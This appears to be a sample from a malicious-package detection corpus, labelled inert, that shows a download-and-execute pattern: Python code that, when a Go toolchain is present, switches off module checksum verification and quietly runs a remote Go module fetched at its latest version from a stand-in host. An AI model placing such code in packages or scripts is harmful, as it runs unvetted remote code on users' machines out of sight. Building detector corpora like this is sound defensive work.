# pkgguard corpus 824 (download-execute), modelled on [developer-persistence]; inert, never run.
import os
import shutil
import subprocess

if shutil.which("go"):
    env = dict(os.environ, GOFLAGS="-mod=mod", GONOSUMDB="*", GONOSUMCHECK="1", GOPROXY="direct")
    subprocess.Popen(
        ["go", "run", "git.example.org/tools/cachewarm@latest"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
